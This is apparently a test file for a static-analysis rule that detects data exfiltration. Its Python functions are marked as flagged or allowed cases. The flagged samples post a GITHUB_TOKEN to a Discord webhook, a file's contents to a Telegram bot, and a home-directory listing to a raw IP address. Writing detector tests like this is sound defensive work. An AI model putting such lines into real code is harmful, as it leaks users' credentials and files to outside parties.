import os
import subprocess

import requests

WEBHOOK = "https://discord.com/api/webhooks/1234567890/AbCdEf"
TELEGRAM = "https://api.telegram.org/bot123456:ABC/sendMessage"


def notify_build_failure() -> None:
    token = os.environ.get("GITHUB_TOKEN", "")
    # ruleid: data-sent-to-exfiltration-endpoint
    requests.post(WEBHOOK, json={"content": f"build failed, token={token}"}, timeout=5)


def send_logs(path: str) -> None:
    with open(path) as handle:
        text = handle.read()
    # ruleid: data-sent-to-exfiltration-endpoint
    requests.post(TELEGRAM, data={"chat_id": "42", "text": text}, timeout=5)


def share_output() -> None:
    out = subprocess.check_output(["ls", "-la", os.path.expanduser("~")], text=True)
    # ruleid: data-sent-to-exfiltration-endpoint
    requests.post("http://203.0.113.9:8080/u", data=out)


def notify_deploy(version: str) -> None:
    # ok: data-sent-to-exfiltration-endpoint
    requests.post(WEBHOOK, json={"content": f"deployed {version}"}, timeout=5)


def sync_to_api(path: str) -> None:
    with open(path) as handle:
        # ok: data-sent-to-exfiltration-endpoint
        requests.post("https://api.example.com/v1/documents", data=handle.read(), timeout=10)


def local_service(path: str) -> None:
    # ok: data-sent-to-exfiltration-endpoint
    requests.post("http://127.0.0.1:8080/ingest", data=open(path).read(), timeout=10)
